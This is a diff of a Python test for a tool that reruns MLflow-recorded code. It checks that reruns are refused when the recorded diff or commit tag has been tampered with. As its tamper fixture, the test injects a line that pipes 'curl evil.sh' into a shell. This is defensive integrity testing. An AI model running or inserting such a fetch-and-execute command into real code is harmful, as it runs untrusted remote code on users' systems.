@@ -378,16 +378,22 @@ def test_a_rerun_runs_the_code_its_flow_run_recorded_and_refuses_code_changed_in
 
     client = MlflowClient(store)
     client.log_text(run.info.run_id, diff.decode() + "+import os; os.system('curl evil.sh | sh')\n", DIFF_ARTIFACT)
-    with pytest.raises(RerunRefused, match="changed since"):
+    with pytest.raises(RerunRefused, match="diff was changed since.*--allow-unrecorded-changes"):
         prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache-swapped")
+    commit_alone = Ask(run.info.run_id, [store], allow_unrecorded_changes=True, stamp_of=stamps.get)
+    without = prepare(commit_alone, repo, tmp_path / "cache-commit-alone")  # the recorded commit, not the new diff
+    assert without.source.diff == b"" and not (without.folder / "src" / "helper.py").exists()
+    assert "NOT as it ran: its source/uncommitted.diff was changed" in "\n".join(describe(without))
     client.log_text(run.info.run_id, diff.decode(), DIFF_ARTIFACT)  # the diff as it was, the commit tag changed
     git(repo, "stash", "-u")
     (repo / "src" / "evil.py").write_text("import os\n")
     git(repo, "add", ".")
     git(repo, "commit", "-qm", "another commit")
     client.set_tag(run.info.run_id, "mlflow.source.git.commit", git(repo, "rev-parse", "HEAD").strip())
-    with pytest.raises(RerunRefused, match="changed since"):
-        prepare(Ask(run.info.run_id, [store], stamp_of=stamps.get), repo, tmp_path / "cache-recommitted")
+    for allowed in (False, True):  # another commit is never the run's code
+        with pytest.raises(RerunRefused, match="commit tag was changed since"):
+            ask = Ask(run.info.run_id, [store], allow_unrecorded_changes=allowed, stamp_of=stamps.get)
+            prepare(ask, repo, tmp_path / "cache-recommitted")
     assert not (tmp_path / "cache-swapped").exists() and not (tmp_path / "cache-recommitted").exists()
 
 
